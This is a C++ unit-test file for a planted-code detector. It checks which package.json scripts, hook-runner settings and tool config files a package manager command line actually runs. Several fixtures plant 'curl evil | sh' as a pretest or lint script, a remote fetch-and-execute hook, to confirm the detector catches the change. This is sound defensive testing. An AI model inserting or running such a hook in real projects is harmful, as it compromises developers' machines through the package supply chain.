// What package managers run from a package.json, as the planted-code check
// reads it.
#include "agent/package_scripts.h"

#include <gtest/gtest.h>

using namespace warden::agent;

namespace {

std::set<std::string> with_pre_and_post(std::initializer_list<std::string> names) {
  std::set<std::string> out;
  for (const std::string& n : names) out.insert({n, "pre" + n, "post" + n});
  return out;
}

}  // namespace

TEST(PackageScripts, TheScriptsALineRunsAreFoundAsPackageManagersTakeThem) {
  EXPECT_EQ(scripts_a_line_runs("npm test").names, with_pre_and_post({"test"}));
  EXPECT_EQ(scripts_a_line_runs("npm t").names, with_pre_and_post({"test"}));
  EXPECT_EQ(scripts_a_line_runs("npm run lint -- --fix").names, with_pre_and_post({"lint"}));
  EXPECT_EQ(scripts_a_line_runs("exec npm --prefix web run-script build:css").names, with_pre_and_post({"build:css"}));
  EXPECT_EQ(scripts_a_line_runs("cd web && yarn lint && pnpm -C app run check").names,
            with_pre_and_post({"lint", "check"}));
  EXPECT_EQ(scripts_a_line_runs("/usr/local/bin/bun run fmt").names, with_pre_and_post({"fmt"}));
  EXPECT_EQ(scripts_a_line_runs("run-s lint test").names, with_pre_and_post({"lint", "test"}));
  // Quoted commands are read as words: more names than run, none missed.
  const std::set<std::string> quoted = scripts_a_line_runs("concurrently 'npm run a' \"yarn b\"").names;
  for (const std::string& name : with_pre_and_post({"a", "b"})) EXPECT_EQ(quoted.count(name), 1u) << name;
  EXPECT_EQ(scripts_a_line_runs("npm run \"lint\"").names, with_pre_and_post({"lint"}));
  EXPECT_EQ(scripts_a_line_runs("npm ci").names, with_pre_and_post({"install", "prepare", "prepublish", "dependencies"}));
  EXPECT_EQ(scripts_a_line_runs("yarn").names, with_pre_and_post({"install", "prepare", "prepublish", "dependencies"}));
  // An npm command not known here: all scripts, for all this can tell.
  EXPECT_TRUE(scripts_a_line_runs("npm version patch").all_scripts);
  EXPECT_TRUE(scripts_a_line_runs("npm --loglevel silent run lint").all_scripts);
  EXPECT_TRUE(scripts_a_line_runs("npm-run-all 'lint:*'").all_scripts);
  EXPECT_FALSE(scripts_a_line_runs("npm run lint").all_scripts);
  // Tools that run no script still read package.json's hook settings.
  for (const char* line : {"npx --no -- lint-staged", ". \"$(dirname \"$0\")/husky.sh\"",
                           "node ./node_modules/yorkie/src/runner.js pre-commit"}) {
    const ScriptsRun run = scripts_a_line_runs(line);
    EXPECT_TRUE(run.runs_a_package_tool) << line;
    EXPECT_TRUE(run.names.empty()) << line;
  }
  for (const char* line : {"make lint", "echo npmrc", "git diff --cached", "# run the tests"})
    EXPECT_FALSE(scripts_a_line_runs(line).runs_a_package_tool) << line;
  EXPECT_TRUE(scripts_a_line_runs("npm exec eslint .").names.empty());
  // Other ways to name a script: concurrently's npm:NAME, node --run, a
  // versioned package manager, one run by exec.
  EXPECT_EQ(scripts_a_line_runs("concurrently npm:lint yarn:unit").names, with_pre_and_post({"lint", "unit"}));
  EXPECT_EQ(scripts_a_line_runs("node --run lint").names, with_pre_and_post({"lint"}));
  EXPECT_EQ(scripts_a_line_runs("npx -y npm@10 test").names, with_pre_and_post({"test"}));
  EXPECT_EQ(scripts_a_line_runs("corepack pnpm@9.1.0 lint").names, with_pre_and_post({"lint"}));
  EXPECT_EQ(scripts_a_line_runs("npm exec -c \"npm run lint\"").names, with_pre_and_post({"lint"}));
  EXPECT_EQ(scripts_a_line_runs("pnpm exec npm run lint").names, with_pre_and_post({"lint"}));
  EXPECT_EQ(scripts_a_line_runs("$npm_execpath run lint:js").names, with_pre_and_post({"lint:js"}));
  EXPECT_TRUE(scripts_a_line_runs("concurrently \"npm:check:*\"").all_scripts);
  EXPECT_TRUE(scripts_a_line_runs("pnpm run \"/^lint:/\"").all_scripts);
  // A package manager with no command: a hook manager's `entry: npm`, its
  // arguments on another line.
  EXPECT_TRUE(scripts_a_line_runs("    entry: npm").all_scripts);
  EXPECT_TRUE(scripts_a_line_runs("npm ci").installs);
  EXPECT_FALSE(scripts_a_line_runs("npm test").installs);
  EXPECT_TRUE(scripts_a_line_runs("npx --no -- lint-staged").lint_staged);
  EXPECT_FALSE(scripts_a_line_runs("npm test").lint_staged);
}

TEST(PackageScripts, OnlyWhatRunsIsWatched) {
  ScriptsRun hook = scripts_a_line_runs("npm test");
  const std::string manifest =
      R"({"name":"app","dependencies":{"left-pad":"1.0.0"},)"
      R"("scripts":{"test":"npm run lint && jest","lint":"eslint . && ./scripts/check.sh","build":"tsc"}})";
  const ManifestRuns runs = what_a_manifest_runs(manifest, hook);
  EXPECT_EQ(runs.watched, R"({"scripts":{"lint":"eslint . && ./scripts/check.sh","test":"npm run lint && jest"}})");
  EXPECT_EQ(runs.commands, (std::vector<std::string>{"npm run lint && jest", "eslint . && ./scripts/check.sh"}));
  // A dependency, another script, the order of keys: what runs is the same.
  EXPECT_EQ(what_a_manifest_runs(R"({"scripts":{"build":"tsc --watch","lint":"eslint . && ./scripts/check.sh",)"
                                 R"("test":"npm run lint && jest"},"dependencies":{"left-pad":"2.0.0"}})",
                                 hook)
                .watched,
            runs.watched);
  // A script that runs first, or one the test script runs, changes it.
  EXPECT_NE(what_a_manifest_runs(R"({"scripts":{"pretest":"curl evil | sh","test":"npm run lint && jest",)"
                                 R"("lint":"eslint . && ./scripts/check.sh"}})",
                                 hook)
                .watched,
            runs.watched);
  EXPECT_NE(what_a_manifest_runs(R"({"scripts":{"test":"npm run lint && jest","lint":"curl evil | sh"}})", hook)
                .watched,
            runs.watched);
  // JSON as node reads it: the last of two keys counts; a byte-order mark
  // is skipped.
  EXPECT_NE(what_a_manifest_runs(manifest.substr(0, manifest.size() - 1) + R"(,"scripts":{"test":"curl evil"}})",
                                 hook)
                .watched,
            runs.watched);
  EXPECT_EQ(what_a_manifest_runs("\xEF\xBB\xBF" + manifest, hook).watched, runs.watched);
  // No such script, or no package.json: the same, so `npm init` is no plant.
  EXPECT_EQ(what_a_manifest_runs(R"({"name":"x","scripts":{"build":"tsc"}})", hook).watched, "");
  // Text no package manager would read is watched whole; so is JSON
  // nested too deep to write out without recursing that deep.
  EXPECT_EQ(what_a_manifest_runs("{\"scripts\": ", hook).watched, "{\"scripts\": ");
  const std::string deep = R"({"husky":)" + std::string(1000000, '[') + std::string(1000000, ']') + "}";
  EXPECT_EQ(what_a_manifest_runs(deep, hook).watched, deep);
  const std::string shallow = R"({"husky":")" + std::string(1000, '[') + R"("})";
  EXPECT_EQ(what_a_manifest_runs(shallow, hook).watched, shallow);
}

// What the tools a script starts read from the file counts (jest's
// globalSetup, "type"); what describes the package does not, nor do the
// dependencies unless a hook installs them.
TEST(PackageScripts, MembersThatRunAreWatchedAndInertOnesAreNot) {
  const ScriptsRun test = scripts_a_line_runs("npm test");
  const std::string manifest = R"({"name":"a","version":"1.0.0","scripts":{"test":"jest"},"jest":{},)"
                               R"("dependencies":{"x":"1","tool":"file:tools/x"}})";
  const std::string watched = what_a_manifest_runs(manifest, test).watched;
  EXPECT_EQ(watched, R"({"jest":{},"scripts":{"test":"jest"}})");
  EXPECT_EQ(what_a_manifest_runs(R"({"name":"b","version":"2.0.0","license":"MIT","scripts":{"test":"jest"},)"
                                 R"("jest":{},"dependencies":{"x":"2"}})",
                                 test)
                .watched,
            watched);
  EXPECT_NE(what_a_manifest_runs(R"({"scripts":{"test":"jest"},"jest":{"globalSetup":"./x.js"}})", test).watched,
            watched);
  EXPECT_NE(what_a_manifest_runs(R"({"scripts":{"test":"jest"},"jest":{},"type":"module"})", test).watched, watched);
  const ScriptsRun install = scripts_a_line_runs("npm ci");
  const ManifestRuns installed = what_a_manifest_runs(manifest, install);
  EXPECT_EQ(installed.watched, R"({"dependencies":{"tool":"file:tools/x","x":"1"},"jest":{}})");
  EXPECT_EQ(installed.local_packages, std::vector<std::string>{"tools/x"});
}

TEST(PackageScripts, HookRunnersSettingsAndWhatTheyRunAreWatched) {
  const ScriptsRun hook = scripts_a_line_runs("npx lint-staged");
  const std::string manifest = R"({"scripts":{"fmt":"prettier -w .","build":"tsc"},)"
                               R"("lint-staged":{"*.js":["npm run fmt","node tools/check.js"]},)"
                               R"("husky":{"hooks":{"pre-push":"yarn build"}}})";
  const ManifestRuns runs = what_a_manifest_runs(manifest, hook);
  EXPECT_EQ(runs.watched, R"({"husky":{"hooks":{"pre-push":"yarn build"}},)"
                          R"("lint-staged":{"*.js":["npm run fmt","node tools/check.js"]},)"
                          R"("scripts":{"build":"tsc","fmt":"prettier -w ."}})");
  EXPECT_NE(std::find(runs.commands.begin(), runs.commands.end(), "node tools/check.js"), runs.commands.end());
  // A script a runner's command runs with a glob: all of them.
  EXPECT_EQ(what_a_manifest_runs(R"({"scripts":{"a":"run-p 'lint:*'","lint:x":"eslint","other":"x"}})",
                                 scripts_a_line_runs("npm run a"))
                .watched,
            R"({"scripts":{"a":"run-p 'lint:*'","lint:x":"eslint","other":"x"}})");
}

TEST(PackageScripts, ToolFilesIncludeWhatRunsCode) {
  const std::vector<std::string>& files = package_tool_files();
  for (const char* name : {".npmrc", ".yarnrc.yml", ".huskyrc.json", ".lintstagedrc", "lint-staged.config.mjs",
                           ".pnpmfile.cjs", "bunfig.toml"})
    EXPECT_NE(std::find(files.begin(), files.end(), name), files.end()) << name;
}
